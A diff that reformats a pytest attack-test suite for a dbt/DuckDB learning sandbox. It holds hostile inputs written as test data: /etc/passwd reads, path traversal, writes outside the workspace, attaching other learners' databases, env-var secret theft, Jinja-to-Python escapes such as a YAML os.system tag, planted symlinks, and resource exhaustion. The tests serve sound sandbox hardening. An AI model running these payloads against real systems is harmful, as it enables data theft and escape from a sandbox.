@@ -35,25 +35,45 @@ from decode_data.services import runs, warehouse
 from decode_data.services.engine import Engine, Job, PoolConfig
 from decode_data.services.save_policy import SaveRejected
 from decode_data.services.workspace import ensure_workspace, save_file
-from tests.attack_helpers import (APP_DB_MARK, CMDLINE_MARK, ENVIRON_MARKS, LESSON_ID, MAPS_MARK,
-                                  MOTHERDUCK_TOKEN, PASSWD_MARKS, ROOT_LISTING_MARKS,
-                                  SERVER_SECRETS, TOKEN, assert_no_leak, assert_nothing_at,
-                                  assert_refused, error_text, execute_model, hook_model,
-                                  make_victim, plant, result_text,
-                                  write_attack_lesson)
+from tests.attack_helpers import (
+    APP_DB_MARK,
+    CMDLINE_MARK,
+    ENVIRON_MARKS,
+    LESSON_ID,
+    MAPS_MARK,
+    MOTHERDUCK_TOKEN,
+    PASSWD_MARKS,
+    ROOT_LISTING_MARKS,
+    SERVER_SECRETS,
+    TOKEN,
+    assert_no_leak,
+    assert_nothing_at,
+    assert_refused,
+    error_text,
+    execute_model,
+    hook_model,
+    make_victim,
+    plant,
+    result_text,
+    write_attack_lesson,
+)
 
 pytestmark = pytest.mark.attack
 
-FILE_REFUSED = ("file system operations are disabled", "disabled by configuration",
-                "permission denied")
+FILE_REFUSED = ("file system operations are disabled", "disabled by configuration", "permission denied")
 LOCKED = ("configuration has been locked",)
-EXTENSION_REFUSED = ("loading external extensions is disabled", "failed to download extension",
-                     "could not establish connection", "configuration has been locked",
-                     "disabled by configuration")
+EXTENSION_REFUSED = (
+    "loading external extensions is disabled",
+    "failed to download extension",
+    "could not establish connection",
+    "configuration has been locked",
+    "disabled by configuration",
+)
 UNSAFE = ("unsafe",)
 
 
 # --- the scene: an attack lesson, an attacker, a victim, a folder outside every workspace -----
+
 
 @dataclass
 class Scene:
@@ -78,6 +98,7 @@ class Scene:
     def query(self, sql: str):
         if not self.ws.warehouse.exists():  # the query page needs a warehouse to open
             import duckdb
+
             duckdb.connect(str(self.ws.warehouse)).close()
         return warehouse.query(self.session, self.attacker, self.lesson, sql)
 
@@ -93,8 +114,9 @@ class Scene:
 
     def others_can_query(self) -> None:
         """Another learner's normal query page job still works (cheaper than a dbt run)."""
-        job = Job(learner_key=self.victim.key, lesson_id=LESSON_ID, command="query",
-                  sql="select count(*) from victim_secret")
+        job = Job(
+            learner_key=self.victim.key, lesson_id=LESSON_ID, command="query", sql="select count(*) from victim_secret"
+        )
         result = engine_module.get_engine().submit(job, self.victim.job_paths, timeout_s=10)
         assert result.ok and result.preview.rows == [[1]], error_text(result)
 
@@ -119,9 +141,15 @@ def scene(db_session, settings_env, attack_lesson, victim, tmp_path) -> Scene:
     outside.mkdir()
     app_db = settings_env.data_dir / "app.db"
     assert app_db.exists()
-    return Scene(session=db_session, lesson=attack_lesson, attacker=attacker,
-                 ws=ensure_workspace(db_session, attacker, attack_lesson), victim=victim,
-                 outside=outside, app_db=app_db)
+    return Scene(
+        session=db_session,
+        lesson=attack_lesson,
+        attacker=attacker,
+        ws=ensure_workspace(db_session, attacker, attack_lesson),
+        victim=victim,
+        outside=outside,
+        app_db=app_db,
+    )
 
 
 RUNAWAY_TIMEOUT_S = 4.0
@@ -139,10 +167,17 @@ def attack_engine(tmp_path_factory):
     saved = {k: os.environ.get(k) for k in SERVER_SECRETS}
     os.environ.update(SERVER_SECRETS)
     try:
-        pool = Engine(PoolConfig(workers=2, job_timeout_s=20, job_memory_mb=512, worker_max_jobs=1000,
-                                 max_log_bytes=20_000,
-                                 data_dir=tmp_path_factory.mktemp("attack-engine"),
-                                 motherduck_token=MOTHERDUCK_TOKEN))
+        pool = Engine(
+            PoolConfig(
+                workers=2,
+                job_timeout_s=20,
+                job_memory_mb=512,
+                worker_max_jobs=1000,
+                max_log_bytes=20_000,
+                data_dir=tmp_path_factory.mktemp("attack-engine"),
+                motherduck_token=MOTHERDUCK_TOKEN,
+            )
+        )
         deadline = time.monotonic() + 180
         while pool.idle.qsize() < 2:  # workers start in threads: keep the env until they did
             assert time.monotonic() < deadline, "the attack engine's workers did not start"
@@ -183,6 +218,7 @@ def _worker_pids(pool) -> set[int]:
 
 
 # --- 1. reading server files and other learners' files ---------------------------------------
+
 
 def _via(allowed: Path, target: Path) -> str:
     """`target` spelled as a path under a folder DuckDB allows, climbing out with '..'."""
@@ -231,15 +267,20 @@ def test_models_cannot_read_server_or_other_learners_files(scene):
     for name, (sql, _marks) in READS.items():
         scene.save(f"models/read_{name}.sql", "{{ config(materialized='table') }}\n" + sql(scene))
     # dbt-duckdb's own way to read files: a source with an external_location.
-    scene.save("models/sources.yml", f"""
+    scene.save(
+        "models/sources.yml",
+        f"""
 version: 2
 sources:
   - name: stolen
     meta: {{external_location: "read_csv('{scene.victim.root_csv}')"}}
     tables: [{{name: victim_file}}]
-""")
-    scene.save("models/read_source_external_location.sql",
-               "{{ config(materialized='table') }}\nselect * from {{ source('stolen', 'victim_file') }}")
+""",
+    )
+    scene.save(
+        "models/read_source_external_location.sql",
+        "{{ config(materialized='table') }}\nselect * from {{ source('stolen', 'victim_file') }}",
+    )
     result = scene.run()
     for name, (_sql, marks) in READS.items():
         assert_refused(result, _read_phrases(name), node=f"read_{name}")
@@ -253,8 +294,10 @@ def test_positive_control_leak_checks_see_allowed_reads(scene):
     """The checks above would see a leak: reading the job's OWN seeds (allowed) shows up."""
     mark = f"own-seed-{TOKEN}"
     (scene.ws.project / "seeds" / "own.csv").write_text(f"value\n{mark}\n")
-    scene.save("models/own_seed.sql", "{{ config(materialized='table') }}\n"
-                                      f"select * from read_csv('{scene.ws.project}/seeds/own.csv')")
+    scene.save(
+        "models/own_seed.sql",
+        f"{{{{ config(materialized='table') }}}}\nselect * from read_csv('{scene.ws.project}/seeds/own.csv')",
+    )
     result = scene.run(select="own_seed")
     assert result.ok, error_text(result)
     with pytest.raises(AssertionError, match="LEAK"):
@@ -282,9 +325,12 @@ def test_dbt_show_inline_cannot_read_files(scene):
 
 
 def test_run_query_in_jinja_is_allowed_but_locked_down(scene):
-    scene.save("models/rq_ok.sql", "{% if execute %}{% set v = run_query('select 41 + 1')"
-                                   ".columns[0].values()[0] %}{% else %}{% set v = 0 %}{% endif %}\n"
-                                   "select {{ v }} as answer")
+    scene.save(
+        "models/rq_ok.sql",
+        "{% if execute %}{% set v = run_query('select 41 + 1')"
+        ".columns[0].values()[0] %}{% else %}{% set v = 0 %}{% endif %}\n"
+        "select {{ v }} as answer",
+    )
     scene.save("models/rq_read.sql", execute_model(f"select * from read_csv('{scene.victim.root_csv}')"))
     scene.save("models/rq_passwd.sql", execute_model("select * from read_text('/etc/passwd')"))
     scene.save("models/rq_unlock.sql", execute_model("SET enable_external_access = true"))
@@ -300,31 +346,40 @@ def test_run_query_in_jinja_is_allowed_but_locked_down(scene):
 
 # --- 2. writing files outside the workspace ----------------------------------------------------
 
+
 def _writes(s: Scene) -> dict[str, tuple[str, Path]]:
     out, v = s.outside, s.victim
     tmp = Path(f"/tmp/decode-data-attack-{TOKEN}.csv")
     return {
-        "copy_run_query": (execute_model(f"COPY (select 1 as a) TO '{out}/run_query.csv'"),
-                           out / "run_query.csv"),
-        "copy_pre_hook": (hook_model(f"COPY (select 1 as a) TO '{out}/pre_hook.csv'"),
-                          out / "pre_hook.csv"),
-        "copy_post_hook": (hook_model(f"COPY (select 1 as a) TO '{out}/post_hook.csv'",
-                                      kind="post_hook"), out / "post_hook.csv"),
+        "copy_run_query": (execute_model(f"COPY (select 1 as a) TO '{out}/run_query.csv'"), out / "run_query.csv"),
+        "copy_pre_hook": (hook_model(f"COPY (select 1 as a) TO '{out}/pre_hook.csv'"), out / "pre_hook.csv"),
+        "copy_post_hook": (
+            hook_model(f"COPY (select 1 as a) TO '{out}/post_hook.csv'", kind="post_hook"),
+            out / "post_hook.csv",
+        ),
         "copy_server_tmp": (hook_model(f"COPY (select 1 as a) TO '{tmp}'"), tmp),
-        "copy_into_victim_root": (hook_model(f"COPY (select 1 as a) TO '{v.root}/planted.csv'"),
-                                  v.root / "planted.csv"),
-        "copy_over_victim_model": (hook_model(
-            f"COPY (select 'select 666 as pwned' as sql) TO '{v.project}/models/pwned.sql' "
-            "(HEADER false, QUOTE '')"), v.project / "models" / "pwned.sql"),
-        "copy_seeds_traversal": (hook_model(
-            f"COPY (select 1 as a) TO '{_via(s.ws.project / 'seeds', out / 'trav.csv')}'"),
-            out / "trav.csv"),
-        "copy_tmp_traversal": (hook_model(
-            f"COPY (select 1 as a) TO '{_via(s.ws.root / 'tmp', out / 'trav_tmp.csv')}'"),
-            out / "trav_tmp.csv"),
+        "copy_into_victim_root": (
+            hook_model(f"COPY (select 1 as a) TO '{v.root}/planted.csv'"),
+            v.root / "planted.csv",
+        ),
+        "copy_over_victim_model": (
+            hook_model(
+                f"COPY (select 'select 666 as pwned' as sql) TO '{v.project}/models/pwned.sql' (HEADER false, QUOTE '')"
+            ),
+            v.project / "models" / "pwned.sql",
+        ),
+        "copy_seeds_traversal": (
+            hook_model(f"COPY (select 1 as a) TO '{_via(s.ws.project / 'seeds', out / 'trav.csv')}'"),
+            out / "trav.csv",
+        ),
+        "copy_tmp_traversal": (
+            hook_model(f"COPY (select 1 as a) TO '{_via(s.ws.root / 'tmp', out / 'trav_tmp.csv')}'"),
+            out / "trav_tmp.csv",
+        ),
         "external_materialization": (
-            "{{ config(materialized='external', location='" + f"{out}/external.parquet" + "') }}\n"
-            "select 1 as id", out / "external.parquet"),
+            "{{ config(materialized='external', location='" + f"{out}/external.parquet" + "') }}\nselect 1 as id",
+            out / "external.parquet",
+        ),
         "export_database": (hook_model(f"EXPORT DATABASE '{out}/export'"), out / "export"),
         "attach_new_file": (hook_model(f"ATTACH '{out}/new.duckdb' AS newdb"), out / "new.duckdb"),
     }
@@ -346,7 +401,9 @@ def test_models_cannot_write_outside_the_workspace(scene):
 def test_planted_server_owned_files_are_replaced_before_the_job(scene):
     """dbt_project.yml hooks, a profiles.yml without the lockdown plugin, packages.yml."""
     hook_target = scene.outside / "on_run_end.csv"
-    scene.plant("dbt_project.yml", f"""
+    scene.plant(
+        "dbt_project.yml",
+        f"""
         name: lesson
         version: '1.0'
         config-version: 2
@@ -354,13 +411,17 @@ def test_planted_server_owned_files_are_replaced_before_the_job(scene):
         on-run-start: ["COPY (select 1 as a) TO '{scene.outside}/on_run_start.csv'"]
         on-run-end: ["COPY (select 1 as a) TO '{hook_target}'"]
         flags: {{allow_spaces_in_model_names: true}}
-    """)
-    scene.plant("profiles.yml", f"""
+    """,
+    )
+    scene.plant(
+        "profiles.yml",
+        f"""
         lesson:
           target: dev
           outputs:
             dev: {{type: duckdb, path: '{scene.victim.warehouse}', threads: 4}}
-    """)
+    """,
+    )
     scene.plant("packages.yml", "packages: [{git: 'https://example.invalid/evil.git'}]\n")
     scene.save("models/steal.sql", "select * from victim_secret")
     result = scene.run()
@@ -394,12 +455,15 @@ def test_planted_dbt_package_hooks_stay_contained(scene):
     that folder before each job, so a planted package never runs (and its hooks would meet the
     same locked-down DuckDB anyway)."""
     target = scene.outside / "package_hook.csv"
-    scene.plant("dbt_packages/evil/dbt_project.yml", f"""
+    scene.plant(
+        "dbt_packages/evil/dbt_project.yml",
+        f"""
         name: evil
         version: '1.0'
         config-version: 2
         on-run-end: ["COPY (select 1 as a) TO '{target}'"]
-    """)
+    """,
+    )
     result = scene.run()
     assert result.ok, error_text(result)
     assert not (scene.ws.project / "dbt_packages").exists()
@@ -409,14 +473,14 @@ def test_planted_dbt_package_hooks_stay_contained(scene):
 
 # --- 3. ATTACH of other databases ----------------------------------------------------------------
 
+
 def _attaches(s: Scene) -> dict[str, tuple[str, object]]:
     return {
         "victim_warehouse": (f"ATTACH '{s.victim.warehouse}' AS victim_db (READ_ONLY)", None),
         "victim_warehouse_rw": (f"ATTACH '{s.victim.warehouse}' AS victim_db", None),
         "app_db": (f"ATTACH '{s.app_db}' AS app_db (TYPE sqlite)", None),
         "app_db_as_duckdb": (f"ATTACH '{s.app_db}' AS app_db", None),
-        "new_outside_file": (f"ATTACH '{s.outside}/created.duckdb' AS created",
-                             s.outside / "created.duckdb"),
+        "new_outside_file": (f"ATTACH '{s.outside}/created.duckdb' AS created", s.outside / "created.duckdb"),
     }
 
 
@@ -424,10 +488,8 @@ def test_models_cannot_attach_other_databases(scene):
     attaches = _attaches(scene)
     for name, (sql, _target) in attaches.items():
         body = "select * from victim_db.victim_secret" if name.startswith("victim") else "select 1 as id"
-        scene.save(f"models/attach_{name}.sql",
-                   "{{ config(materialized='table') }}\n" + hook_model(sql, body=body))
-    scene.save("models/attach_memory.sql", hook_model("ATTACH ':memory:' AS scratch", body=(
-        "select 1 as harmless")))
+        scene.save(f"models/attach_{name}.sql", "{{ config(materialized='table') }}\n" + hook_model(sql, body=body))
+    scene.save("models/attach_memory.sql", hook_model("ATTACH ':memory:' AS scratch", body=("select 1 as harmless")))
     result = scene.run()
     for name, (_sql, target) in attaches.items():
         phrases = FILE_REFUSED + ("loading external extensions is disabled",)
@@ -461,6 +523,7 @@ def test_query_page_attach_memory_is_harmless(scene):
 
 
 # --- 4. extensions and 5. DuckDB settings ------------------------------------------------------
+
 
 def _extensions(s: Scene) -> dict[str, str]:
     return {
@@ -500,8 +563,10 @@ SETTINGS = {
 
 
 def test_models_cannot_load_extensions_or_change_settings(scene):
-    statements = {**{f"ext_{k}": v for k, v in _extensions(scene).items()},
-                  **{f"set_{k}": v for k, v in SETTINGS.items()}}
+    statements = {
+        **{f"ext_{k}": v for k, v in _extensions(scene).items()},
+        **{f"set_{k}": v for k, v in SETTINGS.items()},
+    }
     for name, sql in statements.items():
         scene.save(f"models/{name}.sql", hook_model(sql))
     result = scene.run()
@@ -522,8 +587,9 @@ def test_query_page_cannot_load_extensions(scene, name):
     scene.others_can_query()
 
 
-@pytest.mark.parametrize("name", ["external_access", "reset_lock", "allowed_directories",
-                                  "pragma_memory_limit", "memory_limit", "logging"])
+@pytest.mark.parametrize(
+    "name", ["external_access", "reset_lock", "allowed_directories", "pragma_memory_limit", "memory_limit", "logging"]
+)
 def test_query_page_cannot_change_settings(scene, name):
     result = scene.query(SETTINGS[name] + "; select current_setting('enable_external_access')")
     assert_refused(result, LOCKED)
@@ -534,16 +600,15 @@ def test_query_page_cannot_change_settings(scene, name):
 
 SECRET_MODELS = {
     "secret_env": "select '{{ env_var('SECRET_KEY', 'none') }}' as secret_key, "
-                  "'{{ env_var('MOTHERDUCK_TOKEN', 'none') }}' as motherduck_token, "
-                  "'{{ env_var('DATABASE_URL', 'none') }}' as database_url",
+    "'{{ env_var('MOTHERDUCK_TOKEN', 'none') }}' as motherduck_token, "
+    "'{{ env_var('DATABASE_URL', 'none') }}' as database_url",
     "secret_target": "{{ config(materialized='table') }}\n"
-                     "select $t${{ target }}$t$ as target, "
-                     "$c${{ adapter.config.credentials }}$c$ as credentials, "
-                     "$p${{ adapter.config }}$p$ as project_config",
+    "select $t${{ target }}$t$ as target, "
+    "$c${{ adapter.config.credentials }}$c$ as credentials, "
+    "$p${{ adapter.config }}$p$ as project_config",
     "secret_settings": "{{ config(materialized='table') }}\n"
-                       "select name, value::varchar as value from duckdb_settings()",
-    "secret_current_setting": "{{ config(materialized='table') }}\n"
-                              "select current_setting('motherduck_token') as token",
+    "select name, value::varchar as value from duckdb_settings()",
+    "secret_current_setting": "{{ config(materialized='table') }}\nselect current_setting('motherduck_token') as token",
     "secret_getenv": "{{ config(materialized='table') }}\nselect getenv('SECRET_KEY') as v",
 }
 
@@ -555,6 +620,7 @@ def test_server_secrets_never_reach_learner_code(scene, monkeypatch):
     for key, value in SERVER_SECRETS.items():
         monkeypatch.setenv(key, value)
     from decode_data.settings import get_settings
+
     assert get_settings().motherduck_token is None
     for name, sql in SECRET_MODELS.items():
         scene.save(f"models/{name}.sql", sql)
@@ -581,9 +647,15 @@ def test_motherduck_token_stays_out_of_reach(scene, attack_engine):
     md = attack_engine.submit(job, _job_paths(scene.ws), motherduck_db="dd_attack")
     assert md.status != "success"  # no network and no motherduck extension in the sandbox
     local = attack_engine.submit(job, _job_paths(scene.ws))
-    query = attack_engine.submit(Job(learner_key=scene.attacker.warehouse_key, lesson_id=LESSON_ID,
-                                      command="query", sql="select * from duckdb_settings()"),
-                                  _job_paths(scene.ws))
+    query = attack_engine.submit(
+        Job(
+            learner_key=scene.attacker.warehouse_key,
+            lesson_id=LESSON_ID,
+            command="query",
+            sql="select * from duckdb_settings()",
+        ),
+        _job_paths(scene.ws),
+    )
     for result in (md, local, query):
         assert_no_leak(result, [MOTHERDUCK_TOKEN], warehouse=scene.ws.warehouse)
     scene.others_carry_on()
@@ -591,11 +663,14 @@ def test_motherduck_token_stays_out_of_reach(scene, attack_engine):
 
 # --- 7. Python --------------------------------------------------------------------------------
 
+
 def test_python_model_never_runs(scene):
     inside, outside = scene.ws.root / "PYTHON_RAN", scene.outside / "python_ran"
     with pytest.raises(SaveRejected, match="Python files cannot be saved"):
         scene.save("models/evil.py", "def model(dbt, session):\n    return None\n")
-    scene.plant("models/evil.py", f"""
+    scene.plant(
+        "models/evil.py",
+        f"""
         import pathlib
         pathlib.Path({str(inside)!r}).write_text("module level code ran")
 
@@ -603,7 +678,8 @@ def test_python_model_never_runs(scene):
             pathlib.Path({str(inside)!r}).write_text("model body ran")
             pathlib.Path({str(outside)!r}).write_text("model body ran")
             return session.sql("select 1 as id")
-    """)
+    """,
+    )
     result = scene.run()
     assert_refused(result, ("Python models are disabled",), node="evil")
     assert_nothing_at(inside, outside)
@@ -612,7 +688,9 @@ def test_python_model_never_runs(scene):
 
 def test_custom_materialization_cannot_submit_python(scene):
     inside = scene.ws.root / "PYTHON_RAN"
-    scene.save("macros/evil_materialization.sql", f"""
+    scene.save(
+        "macros/evil_materialization.sql",
+        f"""
 {{% materialization evil, adapter='duckdb' %}}
   {{% call statement('main', language='python') %}}
 import pathlib
@@ -623,11 +701,13 @@ def model(dbt, session):
   {{% endcall %}}
   {{{{ return({{'relations': []}}) }}}}
 {{% endmaterialization %}}
-""")
+""",
+    )
     scene.save("models/uses_evil.sql", "{{ config(materialized='evil') }}\nselect 1 as id")
-    scene.save("models/direct_submit.sql",
-               "{% if execute %}{% do adapter.submit_python_job(model, 'import os') %}{% endif %}\n"
-               "select 1 as id")
+    scene.save(
+        "models/direct_submit.sql",
+        "{% if execute %}{% do adapter.submit_python_job(model, 'import os') %}{% endif %}\nselect 1 as id",
+    )
     result = scene.run()
     assert_refused(result, ("Python models are disabled",), node="uses_evil")
     # Not even reachable from Jinja: "... has no attribute 'submit_python_job'".
@@ -657,23 +737,24 @@ JINJA_ESCAPES = {
     "api_relation_globals": "api.Relation.__init__.__globals__",
     "exceptions_dict": "exceptions.__dict__",
     "method_self": "modules.itertools.chain.__self__",
-    "fromyaml_python_tag": ("fromyaml('!!python/object/apply:os.system "
-                            "[\"touch /tmp/decode-data-yaml\"]')"),
+    "fromyaml_python_tag": ("fromyaml('!!python/object/apply:os.system [\"touch /tmp/decode-data-yaml\"]')"),
 }
 
 
 def test_jinja_cannot_reach_python(scene):
     for name, expr in JINJA_ESCAPES.items():
-        scene.save(f"models/jinja/{name}.sql",
-                   "{% if execute %}{% set v = (" + expr + ") %}{% else %}{% set v = '' %}{% endif %}\n"
-                   "select $v$<{{ v }}>$v$ as rendered")
+        scene.save(
+            f"models/jinja/{name}.sql",
+            "{% if execute %}{% set v = (" + expr + ") %}{% else %}{% set v = '' %}{% endif %}\n"
+            "select $v$<{{ v }}>$v$ as rendered",
+        )
     result = scene.run(select="path:models/jinja")
     by_name = {n.name: n for n in result.nodes}
     for name in JINJA_ESCAPES:
         node = by_name[name]
         if node.status == "success":  # rendered: only to nothing (undefined) or None
             compiled = result.compiled[node.unique_id]
-            rendered = compiled[compiled.index("$v$<") + 4: compiled.index(">$v$")]
+            rendered = compiled[compiled.index("$v$<") + 4 : compiled.index(">$v$")]
             assert rendered in ("", "None"), f"{name} reached something: {rendered[:300]}"
         else:
             assert_refused(result, UNSAFE, node=name)
@@ -685,28 +766,36 @@ def test_jinja_cannot_reach_python(scene):
 
 # --- 9. path tricks: saves, symlinks ---------------------------------------------------------
 
-@pytest.mark.parametrize("path,message", [
-    ("../escape.sql", "cannot go up a folder"),
-    ("models/../../escape.sql", "cannot go up a folder"),
-    ("models/../../../../outside/escape.sql", "cannot go up a folder"),
-    ("/tmp/escape.sql", "not one starting with '/'"),
-    ("models/evil.py", "Python files cannot be saved"),
-    ("dbt_project.yml", "managed by Decode Data"),
-    ("profiles.yml", "managed by Decode Data"),
-    ("packages.yml", "managed by Decode Data"),
-    ("models/dbt_project.yml", "managed by Decode Data"),
-    ("dependencies.yml", "managed by Decode Data"),
-    ("seeds/raw_people.csv", "Only .sql, .yml"),
-    ("dbt_packages/evil/models/x.sql", "does not let you change"),
-    ("target/run/x.sql", "does not let you change"),
-    ("models\\..\\..\\escape.sql", "forward slashes"),
-    ("models/.hidden.sql", "Hidden files"),
-])
+
+@pytest.mark.parametrize(
+    "path,message",
+    [
+        ("../escape.sql", "cannot go up a folder"),
+        ("models/../../escape.sql", "cannot go up a folder"),
+        ("models/../../../../outside/escape.sql", "cannot go up a folder"),
+        ("/tmp/escape.sql", "not one starting with '/'"),
+        ("models/evil.py", "Python files cannot be saved"),
+        ("dbt_project.yml", "managed by Decode Data"),
+        ("profiles.yml", "managed by Decode Data"),
+        ("packages.yml", "managed by Decode Data"),
+        ("models/dbt_project.yml", "managed by Decode Data"),
+        ("dependencies.yml", "managed by Decode Data"),
+        ("seeds/raw_people.csv", "Only .sql, .yml"),
+        ("dbt_packages/evil/models/x.sql", "does not let you change"),
+        ("target/run/x.sql", "does not let you change"),
+        ("models\\..\\..\\escape.sql", "forward slashes"),
+        ("models/.hidden.sql", "Hidden files"),
+    ],
+)
 def test_save_policy_refuses_paths(scene, path, message):
     with pytest.raises(SaveRejected, match=re.escape(message)):
         scene.save(path, "select 1 as id")
-    assert_nothing_at(scene.ws.root.parent / "escape.sql", scene.outside / "escape.sql",
-                      "/tmp/escape.sql", scene.ws.project / "dbt_packages")
+    assert_nothing_at(
+        scene.ws.root.parent / "escape.sql",
+        scene.outside / "escape.sql",
+        "/tmp/escape.sql",
+        scene.ws.project / "dbt_packages",
+    )
 
 
 def test_save_through_planted_symlink_stays_inside(scene):
@@ -723,11 +812,12 @@ def test_save_through_planted_symlink_stays_inside(scene):
 @pytest.mark.parametrize("kind", ["model", "seed", "macro"])
 def test_dbt_cannot_read_through_planted_symlink(scene, kind):
     """A symlink in the project to another learner's file: dbt's own reads hit the OS sandbox."""
-    link = {"model": scene.ws.project / "models" / "linked.sql",
-            "seed": scene.ws.project / "seeds" / "linked.csv",
-            "macro": scene.ws.project / "macros" / "linked.sql"}[kind]
-    target = {"model": scene.victim.model_sql, "seed": scene.victim.seed_csv,
-              "macro": scene.victim.model_sql}[kind]
+    link = {
+        "model": scene.ws.project / "models" / "linked.sql",
+        "seed": scene.ws.project / "seeds" / "linked.csv",
+        "macro": scene.ws.project / "macros" / "linked.sql",
+    }[kind]
+    target = {"model": scene.victim.model_sql, "seed": scene.victim.seed_csv, "macro": scene.victim.model_sql}[kind]
     link.parent.mkdir(parents=True, exist_ok=True)
     os.symlink(target, link)
     result = scene.run("build")
@@ -743,10 +833,12 @@ def test_duckdb_cannot_read_through_planted_symlink(scene):
     os.symlink(scene.victim.root_csv, tmp / "link.csv")
     os.symlink("/etc/passwd", tmp / "passwd.csv")
     os.symlink(scene.victim.root, tmp / "victim_dir")
-    sqls = {"tmp_link": f"read_csv('{tmp}/link.csv')",
-            "tmp_passwd": f"read_text('{tmp}/passwd.csv')",
-            "tmp_dir": f"read_csv('{tmp}/victim_dir/{scene.victim.root_csv.name}')",
-            "tmp_dir_glob": f"glob('{tmp}/victim_dir/*')"}
+    sqls = {
+        "tmp_link": f"read_csv('{tmp}/link.csv')",
+        "tmp_passwd": f"read_text('{tmp}/passwd.csv')",
+        "tmp_dir": f"read_csv('{tmp}/victim_dir/{scene.victim.root_csv.name}')",
+        "tmp_dir_glob": f"glob('{tmp}/victim_dir/*')",
+    }
     for name, source in sqls.items():
         scene.save(f"models/{name}.sql", "{{ config(materialized='table') }}\nselect * from " + source)
     result = scene.run()
@@ -783,8 +875,9 @@ def test_planted_warehouse_symlink_to_other_learner(scene):
 @pytest.mark.parametrize("which", ["target", "tmp", "logs"])
 def test_planted_directory_symlinks_lead_nowhere(scene, which):
     """project/target, project/logs or the job's tmp/ replaced by a link to a folder outside."""
-    link = {"target": scene.ws.project / "target", "logs": scene.ws.project / "logs",
-            "tmp": scene.ws.root / "tmp"}[which]
+    link = {"target": scene.ws.project / "target", "logs": scene.ws.project / "logs", "tmp": scene.ws.root / "tmp"}[
+        which
+    ]
     if link.exists():
         shutil.rmtree(link)
     os.symlink(scene.outside, link)
@@ -817,10 +910,10 @@ def test_last_used_marker_symlink_is_not_followed(scene):
 
 RUNAWAYS = {
     "jinja_double_loop": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
-                         "{% endfor %}\nselect 1 as id",
+    "{% endfor %}\nselect 1 as id",
     "sql_cross_join": "{{ config(materialized='table') }}\n"
-                      "select sum(a.range * b.range) as n "
-                      "from range(1000000) a cross join range(1000000) b",
+    "select sum(a.range * b.range) as n "
+    "from range(1000000) a cross join range(1000000) b",
 }
 
 
@@ -841,9 +934,9 @@ def test_runaway_is_stopped_and_others_are_not_stalled(scene, attack_engine, nam
     thread.start()
     time.sleep(0.5)  # the runaway holds one worker now
     started = time.monotonic()
-    bystander = attack_engine.submit(Job(learner_key=scene.victim.key,
-                                         lesson_id=LESSON_ID, command="run", select="ok"),
-                                     scene.victim.job_paths)
+    bystander = attack_engine.submit(
+        Job(learner_key=scene.victim.key, lesson_id=LESSON_ID, command="run", select="ok"), scene.victim.job_paths
+    )
     bystander_s = time.monotonic() - started
     thread.join(timeout + 60)
     assert not thread.is_alive(), "the runaway job never came back"
@@ -863,8 +956,7 @@ def test_runaway_is_stopped_and_others_are_not_stalled(scene, attack_engine, nam
 
 def test_runaway_memory_gets_a_clear_error(scene, attack_engine):
     workers = _worker_pids(attack_engine)
-    scene.save("models/hog.sql", "{{ config(materialized='table') }}\n"
-                                 "select list(range) as l from range(300000000)")
+    scene.save("models/hog.sql", "{{ config(materialized='table') }}\nselect list(range) as l from range(300000000)")
     result = scene.run(select="hog")
     assert_refused(result, ("out of memory",), node="hog")
     scene.save("models/hog.sql", "select 1 as fixed")
@@ -886,9 +978,12 @@ def test_jinja_memory_bomb_gets_a_clear_error(scene, attack_engine):
 
 
 def test_disk_spill_is_capped_by_the_temp_limit(scene):
-    scene.save("models/spill.sql", "{{ config(materialized='table') }}\n"
-                                   "select md5(range::varchar) || md5((range + 1)::varchar) as s "
-                                   "from range(10000000) order by s")
+    scene.save(
+        "models/spill.sql",
+        "{{ config(materialized='table') }}\n"
+        "select md5(range::varchar) || md5((range + 1)::varchar) as s "
+        "from range(10000000) order by s",
+    )
     result = scene.run(select="spill")
     # Whichever cap the sort meets first refuses it: the temp folder's, or (on a busy machine,
     # when a spill buffer cannot be allocated under the address-space limit) memory.
@@ -900,8 +995,10 @@ def test_disk_spill_is_capped_by_the_temp_limit(scene):
 
 def test_huge_file_is_capped_by_the_file_size_rlimit(scene):
     big = scene.ws.root / "tmp" / "big.csv"
-    scene.save("models/filler.sql", hook_model(
-        f"COPY (select repeat('x', 1000) || range::varchar as a from range(600000)) TO '{big}'"))
+    scene.save(
+        "models/filler.sql",
+        hook_model(f"COPY (select repeat('x', 1000) || range::varchar as a from range(600000)) TO '{big}'"),
+    )
     try:
         result = scene.run(select="filler")
         assert_refused(result, ("file too large",), node="filler")
@@ -915,14 +1012,13 @@ def test_huge_file_is_capped_by_the_file_size_rlimit(scene):
 
 FLOODS = {
     "log_loop": "{% if execute %}{% for i in range(300) %}{{ log('x' * 1000, info=True) }}"
-                "{% endfor %}{% endif %}\nselect 1 as id",
+    "{% endfor %}{% endif %}\nselect 1 as id",
     "print_loop": "{% if execute %}{% for i in range(300) %}{% do print('y' * 1000) %}"
-                  "{% endfor %}{% endif %}\nselect 1 as id",
+    "{% endfor %}{% endif %}\nselect 1 as id",
     "warn_loop": "{% if execute %}{% for i in range(300) %}{% do exceptions.warn('w' * 1000) %}"
-                 "{% endfor %}{% endif %}\nselect 1 as id",
+    "{% endfor %}{% endif %}\nselect 1 as id",
     "one_huge_line": "{% if execute %}{{ log('z' * 3000000, info=True) }}{% endif %}\nselect 1 as id",
-    "parse_time_loop": "{% for i in range(300) %}{{ log('p' * 1000, info=True) }}{% endfor %}\n"
-                       "select 1 as id",
+    "parse_time_loop": "{% for i in range(300) %}{{ log('p' * 1000, info=True) }}{% endfor %}\nselect 1 as id",
 }
 
 
@@ -949,9 +1045,12 @@ def test_endless_log_flood_is_capped_then_stopped(scene, attack_engine):
     """A 100 000 x 1 kB log loop: capped on the way out, then killed at the (short) timeout."""
     cap = attack_engine.config.max_log_bytes
     workers = _worker_pids(attack_engine)
-    scene.save("models/flood.sql", "{% if execute %}{% for i in range(100000) %}"
-                                   "{{ log('x' * 1000, info=True) }}{% endfor %}{% endif %}\n"
-                                   "select 1 as id")
+    scene.save(
+        "models/flood.sql",
+        "{% if execute %}{% for i in range(100000) %}"
+        "{{ log('x' * 1000, info=True) }}{% endfor %}{% endif %}\n"
+        "select 1 as id",
+    )
     job = Job(learner_key=scene.attacker.warehouse_key, lesson_id=LESSON_ID, command="run")
     result = attack_engine.submit(job, _job_paths(scene.ws), timeout_s=RUNAWAY_TIMEOUT_S)
     assert result.status == "timeout", error_text(result)
@@ -965,12 +1064,15 @@ def test_endless_log_flood_is_capped_then_stopped(scene, attack_engine):
 
